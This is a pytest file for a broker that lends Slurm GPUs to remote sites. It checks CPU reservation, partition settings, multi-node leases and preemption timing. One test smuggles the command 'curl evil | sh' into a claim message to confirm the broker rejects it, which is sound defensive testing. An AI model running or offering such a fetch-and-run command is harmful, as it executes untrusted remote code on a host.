"""Leases in Slurm end to end (broker/lending.py, broker/placeholders.py): the broker on a real
Kafka and Mosquitto, lending the GPUs of the local Slurm cluster (deploy/local/slurm.sh, grace
time :data:`tests.services.SLURM_GRACE_S` = the notice), a site on the SDK: the site's workload on
the lent GPUs and profiles only. Fencing, gpupool-down and the workload's endpoint preempted
with notice run for every scheduler in tests/test_broker_lending_schedulers.py.

Each test uses a node of its own and cancels every gpupool job when it ends."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import subprocess
import time
import uuid
from collections.abc import AsyncIterator, Collection, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import aiomqtt
import httpx
import pytest

from broker.edge import ClaimRejected, EdgeClient
from broker.lending import PLAN_SLACK_S, SlurmLending, placeholder_minutes
from broker.scheduler_slurm import JOB_NAME, SlurmScheduler
from contracts import (
    KafkaTopics,
    LeaseState,
    MqttTopics,
    PoolDemand,
    ReasonCode,
    Reply,
    encode,
)
from contracts.bus import Bus
from contracts.leases import Partition
from contracts.mqtt import Requirements
from tests.lending_support import (
    SlurmUnderTest,
    edge_site,
    held_offer,
    idle_capacity,
    inference_profile,
    lending_broker,
    until,
)
from tests.services import SLURM_GRACE_S

pytestmark = pytest.mark.timeout(120)

PROFILE = inference_profile("infer", 28100, drain_s=2, quiet_s=0.3, health_timeout_s=20)
WIDE = PROFILE.model_copy(
    update={"name": "infer-wide", "cpus_per_gpu": 2, "port_min": 28200, "port_max": 28299}
)
"""A profile needing 2 CPUs per GPU: every placeholder then asks Slurm for 2."""


@pytest.fixture
def slurm(slurm_conf: Path, tmp_path: Path) -> Iterator[SlurmUnderTest]:
    """The local Slurm cluster as the shared lending tests drive it; every gpupool and training
    job cancelled after the test."""
    sched = SlurmUnderTest(slurm_conf, tmp_path / "slurm", SLURM_GRACE_S, workloads=(PROFILE,))
    yield sched
    sched.clean()


@contextlib.asynccontextmanager
async def _lent_node(
    bus: Bus, topics: KafkaTopics, creds: dict[str, Any], slurm: SlurmUnderTest, host: str
) -> AsyncIterator[tuple[SlurmLending, EdgeClient, str]]:
    """Every GPU of ``host`` idle, a broker lending through Slurm, a site: (lending, site, the
    offer of ``host`` once placeholders hold its 8 GPUs)."""
    lending = slurm.lending()
    await idle_capacity(bus, topics, host)
    async with (
        lending_broker(bus, topics, creds, lending, SLURM_GRACE_S, (PROFILE,)),
        edge_site(creds) as site,
    ):
        yield lending, site, await held_offer(site, lambda: slurm.idle_held(lending, host), host, 8)


async def test_workload_profiles_only_and_never_a_command(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    host = "gpu-node-003"
    mt = MqttTopics(mosquitto["root"])
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, slurm, host) as (lending, site, offer):
        with pytest.raises(ClaimRejected) as refused:
            await site.claim(offer, count=1, workload="bitcoin-miner")
        assert refused.value.reply.code is ReasonCode.UNKNOWN_WORKLOAD
        async with aiomqtt.Client(
            mosquitto["host"], mosquitto["port"], username="edge-a", password=mosquitto["users"]["edge-a"],
            identifier=f"raw-{uuid.uuid4().hex[:8]}",
        ) as raw:  # fmt: skip
            await raw.subscribe(mt.replies("edge-a"), qos=1)
            bad = {"claim_id": "c-cmd", "site": "edge-a", "offer_id": offer, "count": 1, "ts": time.time(),
                   "workload": "infer", "command": ["sh", "-c", "curl evil | sh"]}  # fmt: skip
            await raw.publish(mt.claims("edge-a"), json.dumps(bad), qos=1)
            async with asyncio.timeout(5):
                async for m in raw.messages:
                    reply = Reply.model_validate_json(bytes(m.payload))  # type: ignore[arg-type]
                    if reply.in_reply_to == "c-cmd":
                        break
        assert reply.code is ReasonCode.COMMAND_NOT_ALLOWED and "command" in reply.text
        assert not lending.held_gpus()  # nothing was carved
        lease = await site.claim(offer, count=3, workload="infer")
        ready = await site.wait_lease(lease.lease_id, lambda m: m.endpoint is not None, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{ready.endpoint}/v1/infer", json={})).json()
        assert (
            sorted(answer["gpus"]) == list(lending.held_gpus()[lease.lease_id]) and len(answer["gpus"]) == 3
        )
        # an operator's training demand (not Slurm) reclaims it: the workload gets SIGTERM at the notice
        producer = kafka_bus.producer()
        await producer.start()
        demand = PoolDemand(demand_id=f"d-{uuid.uuid4().hex[:8]}", ts=time.time(), gpus=list(lease.gpus))
        await producer.send(kafka_stage_topics.pool_demand, encode(demand), key=demand.demand_id)
        await producer.flush()
        await producer.stop()
        msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 10)
        assert msg.reason.startswith("demand:")

        async def draining() -> bool:
            async with httpx.AsyncClient(timeout=1.0) as http:
                try:
                    return (await http.get(f"http://{ready.endpoint}/health")).status_code != 200
                except httpx.HTTPError:
                    return True

        for _ in range(40):
            if await draining():
                break
            await asyncio.sleep(0.05)
        assert await draining(), "the workload did not get SIGTERM at the notice"


class _OnePartition:
    """A fabric manager that isolates every lease in partition 0x0123, service level 5, as if
    verified on the fabric (the simulated fabric's hosts are not the Slurm cluster's nodes): what
    the lease's workload must be put in is under test here, not the fabric."""

    enforced = True

    def __init__(self) -> None:
        self.removed: list[str] = []

    async def isolate(self, lease: Any) -> Partition | None:
        return Partition(pkey=0x0123, sl=5, verified=True, limited_members=[f"guid-{h}" for h in lease.hosts])

    async def remove(self, lease: Any) -> None:
        self.removed.append(lease.lease_id)

    async def remove_stale(self, keep: Collection[str]) -> list[str]:
        return []


def _num_cpus(conf: Path, job: str) -> int:
    """``NumCPUs`` of a job as Slurm reports it (``scontrol show job -o``)."""
    out = subprocess.run(
        ["scontrol", "show", "job", "-o", job], capture_output=True, text=True,
        env={**os.environ, "SLURM_CONF": str(conf)}, check=True,
    ).stdout  # fmt: skip
    return int(next(f for f in out.split() if f.startswith("NumCPUs=")).split("=", 1)[1])


async def test_workload_gets_the_profile_cpus_reserved_by_slurm_and_runs_inside_the_lease_partition(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    host = "gpu-node-001"
    wide = SlurmUnderTest(slurm.conf, slurm.control_dir, SLURM_GRACE_S, workloads=(PROFILE, WIDE))
    lending = wide.lending()
    assert lending.placeholder_cpus == 2
    await idle_capacity(kafka_bus, kafka_stage_topics, host)
    fabric = _OnePartition()
    async with (
        lending_broker(
            kafka_bus, kafka_stage_topics, mosquitto, lending, SLURM_GRACE_S, (PROFILE, WIDE), fabric
        ),
        edge_site(mosquitto) as site,
    ):
        offer = await held_offer(site, lambda: wide.idle_held(lending, host), host, 8)
        jobs = wide.lent_holding(host)
        assert len(jobs) == 8 and {_num_cpus(slurm.conf, j) for j in jobs} == {2}  # 2 CPUs per GPU reserved
        lease = await site.claim(offer, count=3, duration_seconds=600, workload="infer-wide")
        assert lease.partition is not None and lease.partition.pkey == 0x0123
        (url,) = await site.wait_endpoints(lease.lease_id, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{url}/v1/infer", json={})).json()
        env = answer["env"]
        assert env["GPUPOOL_CPUS"] == env["OMP_NUM_THREADS"] == "6"  # 2 CPUs per GPU x 3 GPUs
        assert env["GPUPOOL_IB_PKEY"] == env["UCX_IB_PKEY"] == "0x0123"
        assert env["GPUPOOL_IB_SL"] == env["NCCL_IB_SL"] == env["UCX_IB_SL"] == "5"
        if not Path("/sys/class/infiniband").exists():
            assert "NCCL_IB_PKEY" not in env  # no P_Key table on this node: NCCL's default index
        assert answer["node"] == host and len(answer["gpus"]) == 3
        # the plain profile's budget is its 1 CPU per GPU (without fabric isolation no InfiniBand
        # knob at all: tests/test_broker_workloads.py)
        rest = await held_offer(site, lambda: wide.idle_held(lending, host), host, 5)
        plain = await site.claim(rest, count=2, workload="infer")
        (url2,) = await site.wait_endpoints(plain.lease_id, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            env2 = (await http.post(f"http://{url2}/v1/infer", json={})).json()["env"]
        assert env2["GPUPOOL_CPUS"] == "2" and url2 != url


async def test_a_lease_on_two_nodes_runs_its_workload_on_each_and_a_restarted_broker_adopts_both(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    hosts = ["gpu-node-002", "gpu-node-003"]
    lending = slurm.lending()
    for h in hosts:
        await idle_capacity(kafka_bus, kafka_stage_topics, h, leaf="leaf-t")
    async with (
        lending_broker(kafka_bus, kafka_stage_topics, mosquitto, lending, SLURM_GRACE_S, (PROFILE,)),
        edge_site(mosquitto) as site,
    ):
        for h in hosts:
            await held_offer(site, lambda h=h: slurm.idle_held(lending, h), h, 8)
        lease = await site.request(12, Requirements(), duration_seconds=600, workload="infer")
        assert lease.hosts == hosts and lease.reason == "match:leaf"
        urls = await site.wait_endpoints(lease.lease_id, 30)
        msg = site.known_leases[lease.lease_id]
        assert len(urls) == 2 and msg.endpoint == urls[0] and msg.endpoints == urls
        held = {
            h: sorted(x.gpu_indices[0] for x in lending._leases[lease.lease_id] if x.host == h) for h in hosts
        }
        assert sorted(len(v) for v in held.values()) == [4, 8]
        async with httpx.AsyncClient(timeout=2.0) as http:
            answers = [(await http.post(f"http://{u}/v1/infer", json={})).json() for u in urls]
        for h, a in zip(hosts, answers, strict=True):
            assert a["node"] == h and a["gpus"] == held[h] and a["lease_id"] == lease.lease_id
        assert answers[0]["pid"] != answers[1]["pid"]
        assert len(set(urls)) == 2  # both nodes listen on 127.0.0.1 here: the ports differ
    # the broker stopped; its holds and both instances run on. A new one adopts them.
    again = slurm.lending()
    async with (
        lending_broker(kafka_bus, kafka_stage_topics, mosquitto, again, SLURM_GRACE_S, (PROFILE,)),
        edge_site(mosquitto) as site2,
    ):
        await until(lambda: len(again.endpoint(lease.lease_id)) == 2, 20)
        assert [again.endpoint(lease.lease_id)[h] for h in hosts] == urls
        assert again.held_gpus()[lease.lease_id] == tuple(sorted(i for v in held.values() for i in v))
        await site2.release(lease.lease_id)


async def test_gpus_slurm_preempted_get_no_placeholder_until_the_cooldown_ends(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    """A training job preempts 2 idle placeholders; the lending's read of Slurm's jobs sees it on
    them (they are held back no longer than the cool-down); once it has left again (the GPUs are
    free and still idle by capacity), the broker holds the other 6 only until the cool-down
    (notice + 5 s) has passed since Slurm took the 2 back, then all 8 again."""
    host = "gpu-node-004"
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, slurm, host) as (lending, _, _):
        assert lending.retake_cooldown_s == SLURM_GRACE_S + 5
        train = slurm.submit_training(host, 2)
        await until(lambda: slurm.training_state(train) == "running", 15)
        taken = dict(lending._cooling)
        assert len(taken) == 2 and {h for h, _ in taken} == {host}
        # the lending's own read of Slurm's jobs sees the job on them: no hold past the cool-down
        await until(lambda: not lending._awaiting, 5)
        slurm.cancel(train)
        await until(lambda: slurm.training_state(train) == "GONE", 15)
        await idle_capacity(kafka_bus, kafka_stage_topics, host)
        ends = min(taken.values())
        while time.time() < ends - 0.5:
            assert slurm.idle_held(lending, host) <= 6
            assert len(slurm.lent_holding(host)) <= 6
            await asyncio.sleep(0.2)
        await idle_capacity(kafka_bus, kafka_stage_topics, host)
        await until(lambda: slurm.idle_held(lending, host) == 8, 20)
        assert lending._cooling == {}


async def _planned_node(slurm: SlurmUnderTest, host: str) -> tuple[str, str, float]:
    """A training job on 4 GPUs of ``host`` (time limit 10 min) and an 8-GPU one waiting for
    it, planned onto ``host`` at its end: (running job, waiting job, planned start in Unix s)."""
    first = slurm._run(
        "sbatch", "--parsable", "-p", "training", "-w", host, "--gres=gpu:h100:4", "-c", "1",
        "--time=10", "-o", "/dev/null", "--wrap", "sleep 600",
    ).strip()  # fmt: skip
    await until(lambda: slurm.training_state(first) == "running", 15)
    waiting = slurm.submit_training(host, 8)
    planned: list[float] = []

    def plan() -> bool:
        out = slurm._run("squeue", "-h", "-j", waiting, "-o", "%S", check=False).strip()
        if out in ("", "N/A"):
            return False
        planned[:] = [datetime.strptime(out, "%Y-%m-%dT%H:%M:%S").timestamp()]
        return True

    await until(plan, 15)
    return first, waiting, planned[0]


async def test_slurm_backfills_a_placeholder_of_the_fitted_minutes_on_planned_gpus_and_not_a_minute_more(
    slurm: SlurmUnderTest,
) -> None:
    """Slurm's own rule, which :func:`broker.lending.placeholder_minutes` follows with the
    cluster's backfill timing: on GPUs planned for a pending job, the backfill starts a job of
    the minutes it gives, and leaves one a minute longer pending although that one too would end
    10 s or more before the planned start: past the planned start rounded down to
    ``bf_resolution``. The planned start is put 40-46 s past a whole minute (up to a minute's
    wait), the submissions at a moment the longer one ends in that gap (up to another)."""
    host = "gpu-node-004"
    timing = await SlurmScheduler(slurm.conf).backfill_timing()
    assert timing.resolution_s == 60  # the local cluster's (Slurm's default)
    await until(lambda: 40 <= time.time() % 60 < 46, 61)
    _, _, planned = await _planned_node(slurm, host)
    end_by = planned // 60 * 60
    gap = planned - end_by
    assert gap >= 30, f"the first job started late: the plan is {gap:.0f} s past a whole minute"

    def past() -> float:
        """How long after ``end_by`` a placeholder a minute longer than the fitted one ends."""
        return 60 - (end_by - time.time() - timing.interval_s - PLAN_SLACK_S) % 60 - timing.interval_s - PLAN_SLACK_S

    await until(lambda: 3 <= past() <= gap - 12, 61)
    fitted = placeholder_minutes(planned, time.time(), 60, timing)
    assert 1 <= fitted < 10

    def submit(minutes: int) -> str:
        return slurm._run(
            "sbatch", "--parsable", "-p", "lent", "-w", host, "--gres=gpu:h100:1", "-c", "1",
            f"--time={minutes}", f"--job-name={JOB_NAME}", "-o", "/dev/null", "--wrap", "sleep 600",
        ).strip()  # fmt: skip

    at = time.time()
    longer, fits = submit(fitted + 1), submit(fitted)
    await until(lambda: slurm.training_state(fits) == "running", timing.interval_s + PLAN_SLACK_S + 5)
    await asyncio.sleep(2 * timing.interval_s + 1)  # two more backfill cycles
    assert slurm.training_state(longer) == "pending"
    end = slurm._run("squeue", "-h", "-j", fits, "-o", "%e").strip()
    assert datetime.strptime(end, "%Y-%m-%dT%H:%M:%S").timestamp() <= end_by
    assert at + 60 * (fitted + 1) <= planned - 10  # the longer one would end 10 s before the plan


async def test_gpus_planned_for_a_later_training_job_are_held_until_then_and_taken_back_at_its_start(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    """A training job runs on 4 GPUs of the node (time limit 10 min); an 8-GPU job waits for it,
    planned onto the node at its end. Slurm's backfill starts placeholders on the 4 free GPUs (a
    time limit that ends before that planned start: a 60-minute one would wait); once running,
    their limit is raised to the placeholder time and the plan stays; when the first job ends
    early, Slurm preempts them and the 8-GPU job runs within the notice."""
    host = "gpu-node-004"
    first, waiting, planned = await _planned_node(slurm, host)
    lending = slurm.lending()
    await idle_capacity(kafka_bus, kafka_stage_topics, host)
    async with lending_broker(kafka_bus, kafka_stage_topics, mosquitto, lending, SLURM_GRACE_S, (PROFILE,)):
        await until(lambda: slurm.idle_held(lending, host) == 4, 30)
        assert lending._plans.get(host) == planned

        def limits() -> list[str]:
            return slurm._run("squeue", "-h", "-n", JOB_NAME, "-w", host, "-t", "RUNNING", "-o", "%l").split()

        await until(lambda: limits() == ["1:00:00"] * 4, 5)
        await asyncio.sleep(3)  # a backfill cycle
        start = slurm._run("squeue", "-h", "-j", waiting, "-o", "%S").strip()
        assert datetime.strptime(start, "%Y-%m-%dT%H:%M:%S").timestamp() == planned
        slurm.cancel(first)
        began = time.time()
        await until(lambda: slurm.training_state(waiting) == "running", SLURM_GRACE_S + 15)
        assert time.time() - began <= SLURM_GRACE_S + 15
        assert slurm.idle_held(lending, host) == 0
